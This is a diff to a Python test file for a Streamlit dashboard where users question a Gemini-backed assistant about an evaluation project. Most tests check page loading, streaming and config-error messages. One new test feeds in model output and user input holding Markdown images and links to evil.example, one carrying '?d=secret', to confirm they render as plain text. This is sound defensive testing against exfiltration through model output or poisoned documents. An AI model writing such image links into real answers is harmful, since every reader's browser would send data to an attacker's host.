@@ -8,7 +8,14 @@ from streamlit.testing.v1 import AppTest
 
 from .conftest import DECISION_ID, KEY, RUN_ID
 
-PAGE = Path(__file__).resolve().parents[2] / "dashboards" / "pages" / "ask.py"
+APP = Path(__file__).resolve().parents[2] / "dashboards" / "app.py"
+
+
+def _ask_page() -> AppTest:
+    """The dashboard at /ask, as a browser opening that address (pages run only through app.py)."""
+    from tests.dashboard.conftest import goto
+
+    return goto(AppTest.from_file(str(APP), default_timeout=60), "ask").run()
 
 
 @pytest.fixture(autouse=True)
@@ -30,7 +37,8 @@ def page_env(project, tmp_path, monkeypatch, retriever):
 
 
 def _texts(message) -> str:
-    return "\n".join(m.value for m in message.markdown)
+    """What the person reads (the page escapes every Markdown character of model and document text)."""
+    return "\n".join(m.value for m in message.markdown).replace("\\", "")
 
 
 def test_the_assessment_streams_in_and_follow_ups_carry_history(page_env, fake_gemini, monkeypatch):
@@ -39,12 +47,12 @@ def test_the_assessment_streams_in_and_follow_ups_carry_history(page_env, fake_g
     monkeypatch.setenv("GOOGLE_GEMINI_BASE_URL", fake_gemini.base_url)  # read by the SDK itself
     fake_gemini.script = [["The project ", f"reverted stoney-v2 [decision:{DECISION_ID}]."],
                           ["Because ", "chrF++ fell."]]
-    at = AppTest.from_file(str(PAGE), default_timeout=60).run()
+    at = _ask_page()
     assert not at.exception
     assert at.title[0].value == "Ask about the project"
     assert not at.info  # a key is set: no retrieval-only notice
     assert f"The project reverted stoney-v2 [decision:{DECISION_ID}]." in _texts(at.chat_message[0])
-    assert f"`decision:{DECISION_ID}`" in _texts(at.chat_message[0])  # the citation is shown
+    assert f"- decision:{DECISION_ID}" in _texts(at.chat_message[0])  # the citation is shown
     at.chat_input[0].set_value("Why was stoney-v2 reverted?").run()
     assert not at.exception
     assert [m.name for m in at.chat_message] == ["assistant", "user", "assistant"]
@@ -57,7 +65,7 @@ def test_the_assessment_streams_in_and_follow_ups_carry_history(page_env, fake_g
 
 def test_without_a_key_the_page_shows_retrieval_only(page_env, fake_gemini):
     page_env(base_url=fake_gemini.base_url)
-    at = AppTest.from_file(str(PAGE), default_timeout=60).run()
+    at = _ask_page()
     assert not at.exception
     assert "retrieval only" in at.info[0].value
     first = _texts(at.chat_message[0])
@@ -69,18 +77,25 @@ def test_a_bad_config_is_shown_not_raised(page_env, monkeypatch, tmp_path):
     bad = tmp_path / "bad.toml"
     bad.write_text("[reviewer]\nmodle = 'x'\n")
     monkeypatch.setenv("EVALHARNESS_CONFIG", str(bad))
-    at = AppTest.from_file(str(PAGE), default_timeout=60).run()
+    at = _ask_page()
     assert not at.exception
-    assert "reviewer.modle" in at.error[0].value
+    # The browser gets a plain message (no config path or key names); the server's log has the details.
+    assert "settings could not be read" in at.error[0].value and "modle" not in at.error[0].value
 
 
-def test_the_page_runs_under_navigation(page_env, tmp_path):
-    """As the dashboard app will mount it: `st.navigation` over page files."""
+def test_an_answer_cannot_become_a_link_or_an_image(page_env, fake_gemini, monkeypatch):
+    """A model (or a poisoned document it quotes) that writes Markdown images would make every reader's browser
+    fetch the attacker's URL; the page shows the text as typed instead."""
+    from tests.dashboard.conftest import links_and_images
+
     page_env()
-    app = tmp_path / "app.py"
-    app.write_text("import streamlit as st\n"
-                   f"st.navigation([st.Page({str(PAGE)!r}, title='Ask about the project')]).run()\n")
-    at = AppTest.from_file(str(app), default_timeout=60).run()
+    monkeypatch.setenv("GOOGLE_API_KEY", KEY)
+    monkeypatch.setenv("GOOGLE_GEMINI_BASE_URL", fake_gemini.base_url)
+    hostile = "![x](https://evil.example/?d=secret) [click](https://evil.example/x)"
+    fake_gemini.script = [["Summary: ", hostile], [hostile]]
+    at = _ask_page()
+    at.chat_input[0].set_value("[q](https://evil.example/q) ![i](https://evil.example/i)").run()
     assert not at.exception
-    assert at.title[0].value == "Ask about the project"
-    assert "No model answered" in _texts(at.chat_message[0])
+    bodies = [m.value for message in at.chat_message for m in message.markdown]
+    assert any("evil.example" in b.replace("\\", "") for b in bodies)  # shown, as typed
+    assert [found for b in bodies for found in links_and_images(b)] == []
